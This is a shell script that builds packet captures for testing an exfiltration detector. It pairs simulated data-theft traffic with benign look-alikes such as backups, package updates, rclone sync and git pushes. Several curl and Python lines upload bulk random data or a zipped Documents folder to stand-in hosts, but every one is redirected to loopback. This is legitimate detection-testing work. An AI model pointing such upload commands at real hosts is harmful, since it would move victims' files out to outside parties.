# SPDX-License-Identifier: GPL-3.0-or-later
# capture-shapes.sh: captures for the shapes beyond the scheduled-series corpus (bulk one-shots,
# jitter, destination groups, long-lived connections, cloud one-shots, archive POSTs, a restart)
# and their benign look-alikes. Sourced by capture.sh at its end: it uses capture.sh's servers,
# cap_start/cap_stop/mark/skip/mkfiles, SSH options and work folders.
#
# Bulk transfers are captured with a larger loopback MTU so the committed pcaps stay small:
# 9000 (jumbo frames) for the 1 MB series, 65536 for transfers of 20 MB and more (64 KB
# segments, as a capture on a sending host with segmentation offload shows them). exflow counts
# bytes from the IP total length, so segment size does not change the volumes it sees.

mtu() { ip link set lo mtu "$1"; }
randfile() {  # randfile PATH MEGABYTES: incompressible content (like an archive or encrypted blob)
    head -c "$(($2 * 1024 * 1024))" /dev/urandom >"$1"
}
echo "127.0.0.1 sync.cloudbox-client.com" >>"$HOSTS"

# ---------------------------------------------------------------- bulk one-shots, 50 and 500 MB
mtu 65536
for size in 50 500; do
    cap_start bulk_http_${size}m "tcp port 18080"
    if ! skip; then
        randfile "$FILES/bulk.bin" $size
        mark
        curl -sS -o /dev/null --connect-to ::127.0.0.1:18080 -H 'Expect:' \
            -H 'Content-Type: application/octet-stream' -X POST -T "$FILES/bulk.bin" \
            "http://upload.filedrop-store.net/api/v2/put?name=export.bin"
    fi
    cap_stop
    cap_start bulk_tls_${size}m "tcp port 18443"
    if ! skip; then
        [ -f "$FILES/bulk.bin" ] && [ "$(stat -c %s "$FILES/bulk.bin")" = $((size * 1048576)) ] || randfile "$FILES/bulk.bin" $size
        mark
        curl -sS -k -o /dev/null --connect-to cdn-a7.syncbox-edge.net:443:127.0.0.1:18443 \
            -T "$FILES/bulk.bin" "https://cdn-a7.syncbox-edge.net/u/blob-$size.bin"
    fi
    cap_stop
    cap_start bulk_ip_${size}m "tcp port 18080"
    if ! skip; then
        [ -f "$FILES/bulk.bin" ] && [ "$(stat -c %s "$FILES/bulk.bin")" = $((size * 1048576)) ] || randfile "$FILES/bulk.bin" $size
        mark
        curl -sS -o /dev/null --connect-to ::127.0.0.1:18080 -H 'Expect:' \
            -F "file=@$FILES/bulk.bin;filename=data.bin" "http://193.29.57.14/upload.php"
    fi
    cap_stop
    rm -f "$FILES/bulk.bin"
done

# ---------------------------------------------------------------- 1 MB series (jitter, groups)
mtu 9000
cap_start jitter_http "tcp port 18080"
if ! skip; then
    mkfiles "$FILES/jh" 48 900 1100 201 bin
    for i in $(seq 0 47); do
        mark
        curl -sS -o /dev/null --connect-to ::127.0.0.1:18080 -H 'Expect:' -H 'Content-Type: application/octet-stream' \
            -X POST -T "$(nth "$FILES/jh" $i)" "http://api.metrics-relay.net/v1/blob"
    done
fi
cap_stop
cap_start jitter_tls "tcp port 18443"
if ! skip; then
    mkfiles "$FILES/jt" 48 900 1100 202 bin
    for i in $(seq 0 47); do
        mark
        curl -sS -k -o /dev/null --connect-to static.imgcache-cdn.com:443:127.0.0.1:18443 \
            -T "$(nth "$FILES/jt" $i)" "https://static.imgcache-cdn.com/i/$i.jpg"
    done
fi
cap_stop
# Rotation over 8 addresses of one /24 (TLS to the bare address: no SNI), and over 8 names of
# one registered domain (SNI nN.cdn-relay-sync.com; compose puts each name on its own address).
cap_start rotate_ip24 "tcp port 18443"
if ! skip; then
    mkfiles "$FILES/r24" 16 900 1100 203 bin
    for i in $(seq 0 15); do
        mark
        curl -sS -k -o /dev/null --connect-to ::127.0.0.1:18443 -T "$(nth "$FILES/r24" $i)" \
            "https://45.86.162.$((11 + i % 8))/store"
    done
fi
cap_stop
cap_start rotate_domain "tcp port 18443"
if ! skip; then
    mkfiles "$FILES/rdom" 16 900 1100 204 bin
    for i in $(seq 0 15); do
        mark
        h=n$((1 + i % 8)).cdn-relay-sync.com
        curl -sS -k -o /dev/null --connect-to "$h:443:127.0.0.1:18443" -T "$(nth "$FILES/rdom" $i)" "https://$h/c/$i"
    done
fi
cap_stop

# ---------------------------------------------------------------- one keep-alive connection, 72 x 1 MB
cap_start keepalive_http "tcp port 18080"
if ! skip; then
    "$PY" "$HERE/servers/http_client.py" 127.0.0.1 18080 --host bk.vault-drop.net --path /api/chunk 72 900000 1150000 205
fi
cap_stop
cap_start keepalive_tls "tcp port 18443"
if ! skip; then
    "$PY" "$HERE/servers/http_client.py" 127.0.0.1 18443 --tls --host edge.vault-drop.net --path /api/chunk 72 900000 1150000 206
fi
cap_stop

# Log shipper (benign): small JSON batches on one long-lived HTTPS connection.
mtu 1500
cap_start log_shipper "tcp port 18443"
if ! skip; then
    "$PY" "$HERE/servers/http_client.py" 127.0.0.1 18443 --tls --json --host logs.siem-collector.net \
        --path /api/v1/ingest 240 1000 3000 207
fi
cap_stop

# ---------------------------------------------------------------- cloud storage one-shots, 20 MB
mtu 65536
cap_start cloud_oneshot "tcp port 18443"
if ! skip; then
    randfile "$FILES/cloud.bin" 20
    up() { local h=$1; shift; mark; curl -sS -k -o /dev/null --connect-to "$h:443:127.0.0.1:18443" "$@"; }
    up storage.googleapis.com -X POST -T "$FILES/cloud.bin" -H 'Content-Type: application/octet-stream' \
        "https://storage.googleapis.com/upload/storage/v1/b/q1-exports/o?uploadType=media&name=dump.tar"
    up s3.amazonaws.com -T "$FILES/cloud.bin" "https://s3.amazonaws.com/q1-exports/dump.tar"
    up x.blob.core.windows.net -T "$FILES/cloud.bin" -H 'x-ms-blob-type: BlockBlob' \
        "https://x.blob.core.windows.net/exports/dump.tar"
    up drive.google.com -X POST -T "$FILES/cloud.bin" -H 'Content-Type: application/octet-stream' \
        "https://drive.google.com/upload/drive/v3/files?uploadType=media"
    up content.dropboxapi.com -X POST -T "$FILES/cloud.bin" -H 'Content-Type: application/octet-stream' \
        -H 'Dropbox-API-Arg: {"path":"/exports/dump.tar","mode":"add"}' "https://content.dropboxapi.com/2/files/upload"
    rm -f "$FILES/cloud.bin"
fi
cap_stop

# ---------------------------------------------------------------- archive, then upload
mtu 9000
cap_start zip_post "tcp port 18080"
if ! skip; then
    rm -rf "$FILES/zdocs"; mkfiles "$FILES/zdocs" 8 550 700 208 docx
    ( cd "$FILES" && rm -f Documents.zip && "$PY" -m zipfile -c Documents.zip zdocs >/dev/null )
    mark   # rep 0: python urllib, the zip as the body (Content-Type application/zip)
    "$PY" - "$FILES/Documents.zip" <<'PYEOF'
import sys, urllib.request
data = open(sys.argv[1], "rb").read()
req = urllib.request.Request("http://127.0.0.1:18080/sync/push?h=WS-HR-03", data=data, method="POST",
                             headers={"Host": "dl.share-portal.org", "Content-Type": "application/zip"})
urllib.request.urlopen(req).read()
PYEOF
    mark   # rep 1: curl multipart with the .zip file name
    curl -sS -o /dev/null --connect-to ::127.0.0.1:18080 -H 'Expect:' \
        -F "file=@$FILES/Documents.zip" "http://dl.share-portal.org/upload"
fi
cap_stop
# Day traffic of the restart case: ordinary HTTPS visits.
mtu 1500
cap_start day_visits "tcp port 18443"
if ! skip; then
    for site in www.wikipedia.org news.dailyglobe-example.com www.weather-example.net mail.example-webmail.com; do
        mark
        curl -sS -k -o /dev/null -o /dev/null --connect-to "$site:443:127.0.0.1:18443" \
            -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0' \
            "https://$site/page/24000" "https://$site/page/3000"
    done
fi
cap_stop

# ================================================================ benign look-alikes
# Nightly 30 MB backups: to an S3 bucket name, and to an unknown name.
mtu 65536
for kind in s3 unknown; do
    cap_start backup_$kind "tcp port 18443"
    if ! skip; then
        for i in $(seq 0 9); do
            randfile "$FILES/backup.tar.zst" 30
            mark
            if [ $kind = s3 ]; then
                curl -sS -k -o /dev/null --connect-to acme-backups.s3.amazonaws.com:443:127.0.0.1:18443 -A 'restic/0.14.0' \
                    -T "$FILES/backup.tar.zst" "https://acme-backups.s3.amazonaws.com/nightly/pack-$i"
            else
                curl -sS -k -o /dev/null --connect-to bk01.nas-offsite.net:443:127.0.0.1:18443 -A 'duplicity/0.8.23' \
                    -T "$FILES/backup.tar.zst" "https://bk01.nas-offsite.net/dav/ws-backup/vol$i.difftar.gpg"
            fi
        done
        rm -f "$FILES/backup.tar.zst"
    fi
    cap_stop
done

# Software updates: an apt-like fetch of an index and four packages on one connection, 3 days.
cap_start software_update "tcp port 18080"
if ! skip; then
    for i in 0 1 2; do
        mark
        curl -sS -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null -A 'Debian APT-HTTP/1.3 (2.6.1)' \
            --connect-to ::127.0.0.1:18080 "http://deb.mirror-example.net/page/$((3000 + i))" \
            "http://deb.mirror-example.net/bytes/$((5000000 + i))" "http://deb.mirror-example.net/bytes/$((12000000 + i))" \
            "http://deb.mirror-example.net/bytes/$((25000000 + i))" "http://deb.mirror-example.net/bytes/$((8000000 + i))"
    done
fi
cap_stop

# A sync client: real rclone against rclone serve webdav; every run a file or two changed on
# this device go up and one changed elsewhere comes down.
mtu 9000
cap_start sync_client "tcp port 18444"
if ! skip; then
    mkdir -p "$SRV/sync" "$FILES/sync"
    mkfiles "$FILES/sync" 6 100 300 209 odt
    bg rclone serve webdav "$SRV/sync" --addr 127.0.0.1:18444 --cert "$WORK/tls/cert.pem" --key "$WORK/tls/key.pem" -q
    rcl_pid=$!
    wait_port 18444 t
    RCL=(--webdav-url "https://sync.cloudbox-client.com:18444" --webdav-vendor other --no-check-certificate
         --disable-http2 -q)
    for i in $(seq 0 31); do
        mkfiles "$FILES/sync-new$i" 1 100 400 $((300 + i)) odt
        mv "$FILES/sync-new$i"/* "$FILES/sync/"; rmdir "$FILES/sync-new$i"
        mkfiles "$SRV/sync/shared" 1 100 400 $((400 + i)) xlsx
        mark
        rclone copy ":webdav:shared" "$FILES/sync-down" "${RCL[@]}"
        rclone sync "$FILES/sync" ":webdav:mine" "${RCL[@]}"
    done
    kill $rcl_pid; wait $rcl_pid 2>/dev/null || true
fi
cap_stop

# Git pushes over SSH (OpenSSH and git), a developer's day.
cap_start git_push_ssh "tcp port 2222"
if ! skip; then
    rm -rf "$SRV/git" "$FILES/gitwork"; mkdir -p "$SRV/git"
    git init -q --bare "$SRV/git/app.git"
    git init -q -b main "$FILES/gitwork"
    for i in 0 1 2 3; do
        mkfiles "$FILES/gitwork/assets$i" 3 150 600 $((500 + i)) png
        git -C "$FILES/gitwork" add -A
        git -C "$FILES/gitwork" -c user.name=dev -c user.email=dev@example.org commit -qm "change $i"
        mark
        GIT_SSH_COMMAND="ssh $SSH_OPTS" git -C "$FILES/gitwork" push -q "root@127.0.0.1:$SRV/git/app.git" main
    done
fi
cap_stop

# Git pushes over HTTPS: git's smart HTTP (git http-backend behind a TLS server), SNI
# git.example-forge.org (git's http.curloptResolve points the name at the local server).
cap_start git_push_https "tcp port 18445"
if ! skip; then
    rm -rf "$SRV/githttps" "$FILES/gitwork2"; mkdir -p "$SRV/githttps"
    git init -q --bare "$SRV/githttps/app.git"
    git -C "$SRV/githttps/app.git" config http.receivepack true
    bg "$PY" "$HERE/servers/git_https_server.py" 18445 "$SRV/githttps" "$WORK/tls/cert.pem" "$WORK/tls/key.pem"
    wait_port 18445 t
    git init -q -b main "$FILES/gitwork2"
    for i in 0 1 2 3; do
        mkfiles "$FILES/gitwork2/assets$i" 3 150 600 $((600 + i)) png
        git -C "$FILES/gitwork2" add -A
        git -C "$FILES/gitwork2" -c user.name=dev -c user.email=dev@example.org commit -qm "change $i"
        mark
        git -C "$FILES/gitwork2" -c http.sslVerify=false -c http.curloptResolve=git.example-forge.org:18445:127.0.0.1 \
            push -q "https://git.example-forge.org:18445/app.git" main
    done
fi
cap_stop

# A video call: balanced UDP, 30 datagrams a second of 1100 bytes each way, 2 minutes (its own
# peer: the first one ends with the short call).
mtu 1500
cap_start video_call_long "udp port 13481"
if ! skip; then
    bg "$PY" "$HERE/servers/udp_peer.py" server 13481
    wait_port 13481 u
    mark
    "$PY" "$HERE/servers/udp_peer.py" client 13481 120 30 1100
fi
cap_stop
